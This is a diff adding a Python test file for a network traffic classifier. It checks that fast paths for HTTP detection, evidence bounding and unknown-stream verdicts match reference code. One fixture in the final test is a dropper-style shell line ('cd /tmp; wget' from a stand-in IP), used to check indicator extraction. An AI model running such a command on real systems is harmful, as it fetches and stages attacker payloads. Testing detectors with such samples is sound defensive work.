@@ -1,0 +1,103 @@
+"""The classifier's other fast paths give exactly what the plain code gave (issue 14).
+
+``looks_like_http``'s early return, the evidence bounders compiled per declared
+column, and the shared classifications and verdicts of unknown-application streams.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from teiten.classify.classifier import classify
+from teiten.classify.evidence import EVIDENCE, bounded
+from teiten.classify.http import looks_like_http
+from teiten.classify.session import SessionClassifier
+from teiten.schema import Column
+
+_METHOD_START = re.compile(rb"[A-Z][A-Z_-]{1,31} +[^\s]")
+_KNOWN_METHODS = frozenset(b"GET POST HEAD PUT DELETE OPTIONS CONNECT TRACE PATCH".split())
+
+
+def reference_looks_like_http(data: bytes) -> bool:
+    line = data[:512].lstrip(b"\r\n").split(b"\n", 1)[0]
+    if not _METHOD_START.match(line):
+        return False
+    return b" HTTP/" in line or line.split(b" ", 1)[0] in _KNOWN_METHODS
+
+
+def reference_bounded(value: Any, column: Column) -> tuple[Any, int]:
+    """``bounded`` as it was: the declaration read for every value."""
+    if value is None:
+        return None, 0
+    if column.dtype == "str":
+        text = str(value)
+        if column.limit and len(text) > column.limit:
+            return text[: column.limit], 1
+        return text, 0
+    if column.dtype in ("list_str", "list_struct"):
+        items = list(value)
+        cut = 0
+        if column.limit and len(items) > column.limit:
+            cut, items = len(items) - column.limit, items[: column.limit]
+        item = column.fields[0] if column.dtype == "list_str" and column.fields else None
+        if column.dtype == "list_struct":
+            item = Column("item", "struct", "", fields=column.fields)
+        out = []
+        for x in items:
+            y, n = reference_bounded(x, item) if item is not None else (str(x), 0)
+            out.append(y)
+            cut += n
+        return out, cut
+    if column.dtype == "struct":
+        out_struct: dict[str, Any] = {}
+        cut = 0
+        for f in column.fields:
+            out_struct[f.name], n = reference_bounded(value.get(f.name), f)
+            cut += n
+        return out_struct, cut
+    return value, 0
+
+
+def values_of(column: Column) -> st.SearchStrategy[Any]:
+    """Values for a declared column, around its limits (and None)."""
+    size = (column.limit or 4) + 2
+    if column.dtype == "str":
+        return st.none() | st.text(max_size=size)
+    if column.dtype == "list_str":
+        item = values_of(column.fields[0]) if column.fields else st.text(max_size=3)
+        return st.none() | st.lists(item, max_size=min(size, 70))
+    if column.dtype in ("struct", "list_struct"):
+        struct = st.fixed_dictionaries({f.name: values_of(f) for f in column.fields})
+        if column.dtype == "struct":
+            return st.none() | struct
+        return st.none() | st.lists(struct, max_size=min(size, 4))
+    return st.none() | st.integers()
+
+
+@given(st.binary(max_size=80) | st.sampled_from([b"GET / HTTP/1.1\r\n", b"\r\nPOST /x", b"Xy z"]))
+def test_looks_like_http_is_the_reference(data: bytes) -> None:
+    assert looks_like_http(data) == reference_looks_like_http(data)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.data())
+def test_bounders_are_the_reference(data: st.DataObject) -> None:
+    for name, column in EVIDENCE.items():
+        value = data.draw(values_of(column), label=name)
+        assert bounded(value, column) == reference_bounded(value, column)
+
+
+def test_unknown_streams_share_classifications_and_verdicts() -> None:
+    a = classify(b"\x00\x81random", dst_port=9999)
+    b = classify(b"\x00\x82other", dst_port=9999)
+    assert a is b and a.app == "unknown" and not a.indicators
+    assert classify(b"\x00\x81random", dst_port=9998) is not a
+    sc = SessionClassifier()
+    va, vb = sc.verdict(b"\x00\x81random", 9999, b""), sc.verdict(b"\x00\x82other", 9999, b"")
+    assert va is vb
+    dropper = sc.verdict(b"\x00cd /tmp; wget http://198.51.100.7/x\n", 9999, b"")
+    assert dropper is not va and dropper.columns["indicators"][0] == "http://198.51.100.7/x"
